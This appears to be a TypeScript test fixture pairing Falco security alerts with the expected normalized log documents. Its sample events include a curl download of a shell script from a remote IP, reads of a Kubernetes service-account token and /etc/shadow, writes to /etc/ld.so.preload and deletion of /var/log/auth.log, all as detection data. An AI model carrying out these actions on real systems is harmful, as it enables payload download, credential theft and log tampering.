import type { JsonObject } from '../../../events/json.ts';
import type { Sample } from '../suite.testing.ts';

const ID = '4be1a7c09d3f52e86a7714cc90b2de51837f06a94be1a7c09d3f52e86a7714cc';
const TIME = '2026-05-04T10:15:30.123456789Z';

export const ALERT = {
  hostname: 'node-a',
  output: '10:15:30.123456789: Debug something happened',
  priority: 'Debug',
  rule: 'Something',
  source: 'syscall',
  tags: ['container'],
  time: TIME,
};

const SAID = {
  message: '10:15:30.123456789: Debug something happened',
  tags: ['container'],
  rule: { name: 'Something' },
  log: { level: 'debug' },
};

const HOST = { name: 'node-a', hostname: 'node-a', os: { type: 'linux' } };

/** The common part of a document. */
export function head(dataset: string, event: JsonObject): JsonObject {
  const whole = `falco.${dataset}`;
  return {
    '@timestamp': TIME,
    event: { kind: 'event', module: 'falco', dataset: whole, ...event },
    data_stream: { type: 'logs', dataset: whole, namespace: 'default' },
    host: HOST,
  };
}

const CURL = {
  'container.full_id': ID,
  'container.id': '4be1a7c09d3f',
  'container.image.repository': 'registry.example/shop/cart',
  'container.image.tag': '1.4.2',
  'container.name': 'cart',
  'container.privileged': false,
  'evt.arg.flags': 'EXE_WRITABLE',
  'evt.time': 1777889730123456789n,
  'evt.type': 'execve',
  'group.gid': 1000,
  'k8s.ns.name': 'shop',
  'k8s.pod.name': 'cart-7d9c4-x2x9q',
  'proc.aname[2]': 'containerd-shim',
  'proc.args': '-s http://198.51.100.7/a b.sh',
  'proc.args[0]': '-s',
  'proc.args[1]': 'http://198.51.100.7/a b.sh',
  'proc.args[2]': null,
  'proc.cmdline': 'curl -s http://198.51.100.7/a b.sh',
  'proc.cmdnargs': 2,
  'proc.cwd': '/app/',
  'proc.exe': 'curl',
  'proc.exe_ino': 131,
  'proc.exe_ino.ctime': 1777880000000000000n,
  'proc.exepath': '/usr/bin/curl',
  'proc.name': 'curl',
  'proc.pcmdline': 'sh',
  'proc.pexe': 'sh',
  'proc.pexepath': '/bin/sh',
  'proc.pid': 41022,
  'proc.pid.ts': 1777889730123000000n,
  'proc.pname': 'sh',
  'proc.ppid': 41010,
  'proc.ppid.ts': 1777889722000000000n,
  'proc.pvpid': 75,
  'proc.sid': 75,
  'proc.sname': 'sh',
  'proc.tty': 34816,
  'proc.vpid': 87,
  'user.loginuid': -1,
  'user.name': 'app',
  'user.uid': 1000,
};

const CURL_DOCUMENT: JsonObject = {
  ...head('process', { category: ['process'], type: ['start'], action: 'exec' }),
  ...SAID,
  tags: ['container', 'telemetry', 'T1105', 'mitre_command_and_control'],
  threat: { framework: 'MITRE ATT&CK', technique: { id: ['T1105'] } },
  container: {
    id: ID,
    name: 'cart',
    image: { name: 'registry.example/shop/cart', tag: ['1.4.2'] },
    security_context: { privileged: false },
  },
  orchestrator: {
    type: 'kubernetes',
    namespace: 'shop',
    resource: { name: 'cart-7d9c4-x2x9q', type: 'pod' },
  },
  process: {
    entity_id: 'bm9kZS1hOjE3Nzc4ODk3MzAxMjMwMDAwMDA6NDEwMjI=',
    pid: 41022,
    start: '2026-05-04T10:15:30.123Z',
    name: 'curl',
    executable: '/usr/bin/curl',
    args: ['curl', '-s', 'http://198.51.100.7/a b.sh'],
    args_count: 3,
    command_line: 'curl -s http://198.51.100.7/a b.sh',
    working_directory: '/app',
    interactive: true,
    user: { id: '1000', name: 'app' },
    group: { id: '1000' },
    parent: {
      entity_id: 'bm9kZS1hOjE3Nzc4ODk3MjIwMDAwMDAwMDA6NDEwMTA=',
      pid: 41010,
      start: '2026-05-04T10:15:22.000Z',
      name: 'sh',
      executable: '/bin/sh',
      args: ['sh'],
    },
    session_leader: { name: 'sh' },
    entry_leader: { same_as_process: false },
  },
  user: { id: '1000', name: 'app' },
  group: { id: '1000' },
};

/** The acting process in the smaller samples, and its fields in the document. */
const CAT = {
  'container.id': '4be1a7c09d3f',
  'proc.cmdline': 'cat token',
  'proc.exepath': '/usr/bin/cat',
  'proc.pid': 41023,
};
const CAT_PROCESS = {
  entity_id: 'bm9kZS1hOjQxMDIz',
  pid: 41023,
  name: 'cat',
  executable: '/usr/bin/cat',
  args: ['cat', 'token'],
  command_line: 'cat token',
};
const CAT_PARTS = {
  ...SAID,
  container: { id: '4be1a7c09d3f' },
  process: CAT_PROCESS,
  dockwarden: { reconstructed: ['process.args', 'process.entity_id'] },
};

/** An alert about the acting process, and its document. */
export function small(
  name: string,
  fields: JsonObject,
  document: JsonObject | null,
  record: JsonObject = {},
): Sample {
  return {
    name,
    records: [{ ...ALERT, ...record, output_fields: { ...CAT, ...fields } }],
    documents: document === null ? [] : [document],
  };
}

export function fileDocument(type: string, action: string, path: string, more: JsonObject = {}) {
  const name = path.slice(path.lastIndexOf('/') + 1);
  return {
    ...head('file', { category: ['file'], type: [type], action, ...more }),
    ...CAT_PARTS,
    file: {
      path,
      name,
      ...(name.includes('.') ? { extension: name.split('.').at(-1) ?? '' } : {}),
    },
  };
}

export function processDocument(type: string, action: string, more: JsonObject = {}) {
  return {
    ...head('process', { category: ['process'], type: [type], action, ...more }),
    ...CAT_PARTS,
  };
}

export const alertDocument = (action: string) => ({
  ...head('alerts', { category: ['intrusion_detection'], type: ['info'], action, kind: 'alert' }),
  ...CAT_PARTS,
});

export const TOKEN = '/run/secrets/kubernetes.io/serviceaccount/token';

export const SAMPLES: readonly Sample[] = [
  {
    name: 'an exec with every argument by itself',
    records: [
      {
        ...ALERT,
        tags: ['container', 'telemetry', 'T1105', 'mitre_command_and_control'],
        output_fields: CURL,
      },
    ],
    documents: [CURL_DOCUMENT],
  },
  small(
    'a shell that entered the container, with joined arguments',
    {
      'evt.type': 'execve',
      'container.image': 'registry.example:5000/shop/cart:1.4.2',
      'container.name': '<NA>',
      'k8s.ns.name': null,
      'proc.args': '-c echo  "a b" | wc -l',
      'proc.cmdline': 'sh -c echo  "a b" | wc -l',
      'proc.exe': '/bin/sh',
      'proc.exepath': '/usr/bin/dash',
      'proc.pcmdline': 'tmux: server -x y',
      'proc.pname': 'tmux: server',
      'proc.ppid': 40000,
      'proc.pvpid': 40000,
      'proc.tty': 0,
      'proc.vpid': 99,
      'user.uid': '0',
    },
    {
      ...head('process', { category: ['process'], type: ['start'], action: 'exec' }),
      ...SAID,
      container: {
        id: '4be1a7c09d3f',
        image: { name: 'registry.example:5000/shop/cart', tag: ['1.4.2'] },
      },
      process: {
        entity_id: 'bm9kZS1hOjQxMDIz',
        pid: 41023,
        name: 'dash',
        executable: '/usr/bin/dash',
        args: ['/bin/sh', '-c', 'echo  "a b" | wc -l'],
        command_line: 'sh -c echo  "a b" | wc -l',
        interactive: false,
        user: { id: '0' },
        parent: {
          entity_id: 'bm9kZS1hOjQwMDAw',
          pid: 40000,
          name: 'tmux: server',
          args: ['tmux: server', '-x', 'y'],
        },
        entry_leader: {
          entity_id: 'bm9kZS1hOjQxMDIz',
          pid: 41023,
          name: 'dash',
          executable: '/usr/bin/dash',
          args: ['/bin/sh', '-c', 'echo  "a b" | wc -l'],
          interactive: false,
          entry_meta: { type: 'container' },
          same_as_process: true,
        },
      },
      user: { id: '0' },
      dockwarden: {
        reconstructed: [
          'process.args',
          'process.entity_id',
          'process.parent.args',
          'process.parent.entity_id',
        ],
      },
    },
  ),
  small(
    'a failed exec',
    { 'evt.type': 'execve', 'evt.rawres': -2 },
    processDocument('info', 'exec', { outcome: 'failure' }),
  ),
  small('a fork', { 'evt.type': 'clone', 'evt.rawres': 0 }, processDocument('start', 'fork')),
  small("the parent's side of a fork", { 'evt.type': 'clone3', 'evt.rawres': 41024 }, null),
  small('a thread', { 'evt.type': 'clone', 'evt.rawres': 0, 'thread.tid': 41030 }, null),
  small(
    'an end',
    { 'evt.type': 'procexit', 'evt.arg.ret': 1, 'thread.tid': 41023 },
    {
      ...processDocument('end', 'end'),
      process: { ...CAT_PROCESS, end: TIME, exit_code: 1 },
    },
  ),
  small(
    'opening for reading',
    { 'evt.type': 'openat', 'evt.arg.flags': 'O_RDONLY|O_CLOEXEC', 'fd.name': TOKEN },
    fileDocument('access', 'open', TOKEN),
  ),
  small(
    'opening for writing',
    { 'evt.type': 'openat', 'evt.is_open_write': 'true', 'fd.name': '/etc/ld.so.preload' },
    fileDocument('change', 'open', '/etc/ld.so.preload'),
  ),
  small(
    'a new file',
    {
      'evt.type': 'open',
      'evt.arg.flags': 'O_CREAT|O_WRONLY|O_F_CREATED',
      'evt.arg.name': 'x.sh',
      'proc.cwd': '/',
    },
    {
      ...fileDocument('creation', 'creation', '/x.sh'),
      process: { ...CAT_PROCESS, working_directory: '/' },
    },
  ),
  small(
    'a file that could not be opened',
    { 'evt.type': 'openat', 'evt.res': 'EACCES', 'fd.name': '/etc/shadow' },
    fileDocument('info', 'open', '/etc/shadow', { outcome: 'failure' }),
  ),
  small(
    'a deletion',
    {
      'evt.type': 'unlinkat',
      'evt.arg.name': '../log/auth.log',
      'fs.path.name': '/var/log/auth.log',
    },
    fileDocument('deletion', 'deletion', '/var/log/auth.log'),
  ),
  small(
    'a rename',
    { 'evt.type': 'renameat2', 'evt.arg.oldpath': '/tmp/a', 'evt.arg.newpath': '/usr/bin/ls' },
    fileDocument('change', 'rename', '/usr/bin/ls'),
  ),
  small(
    'a link',
    { 'evt.type': 'symlinkat', 'evt.arg.target': '/bin/sh', 'evt.arg.linkpath': '/tmp/sh' },
    fileDocument('creation', 'link', '/tmp/sh'),
  ),
  small('an alert on a connection', { 'evt.type': 'connect' }, alertDocument('connect')),
  small(
    'the enter side of a call',
    { 'evt.type': 'execve', 'evt.dir': '>' },
    alertDocument('execve'),
  ),
  {
    name: 'an alert of Falcosidekick on a process of the host, without its host',
    records: [
      {
        uuid: '0d6b5c2e-5f0a-4a52-9d1a-2f7f0f6f3b11',
        output: ALERT.output,
        priority: 'Debug',
        rule: 'Something',
        time: TIME,
        source: 'syscall',
        tags: null,
        output_fields: { 'container.id': 'host', 'container.name': 'host', 'proc.name': 'sshd' },
        '@timestamp': '2026-05-04T10:15:31Z',
      },
    ],
    documents: [
      {
        ...head('alerts', {
          category: ['intrusion_detection'],
          type: ['info'],
          action: 'alert',
          kind: 'alert',
          id: '0d6b5c2e-5f0a-4a52-9d1a-2f7f0f6f3b11',
        }),
        host: { os: { type: 'linux' } },
        message: ALERT.output,
        rule: { name: 'Something' },
        log: { level: 'debug' },
        process: { name: 'sshd' },
      },
    ],
  },
  {
    name: 'an alert without fields',
    records: [{ ...ALERT, output_fields: null }],
    documents: [
      {
        ...head('alerts', {
          category: ['intrusion_detection'],
          type: ['info'],
          action: 'alert',
          kind: 'alert',
        }),
        ...SAID,
      },
    ],
  },
  {
    name: 'an alert on the audit log of Kubernetes',
    records: [
      {
        ...ALERT,
        source: 'k8s_audit',
        output_fields: {
          'ka.user.name': 'dev@example.com',
          'ka.verb': 'create',
          'ka.target.resource': 'pods',
          'ka.target.name': 'cart-7d9c4-x2x9q',
          'ka.target.namespace': 'shop',
        },
      },
    ],
    documents: [
      {
        ...head('alerts', {
          category: ['intrusion_detection'],
          type: ['info'],
          action: 'create',
          kind: 'alert',
        }),
        ...SAID,
        orchestrator: {
          type: 'kubernetes',
          namespace: 'shop',
          resource: { name: 'cart-7d9c4-x2x9q', type: 'pods' },
        },
        user: { name: 'dev@example.com' },
      },
    ],
  },
];
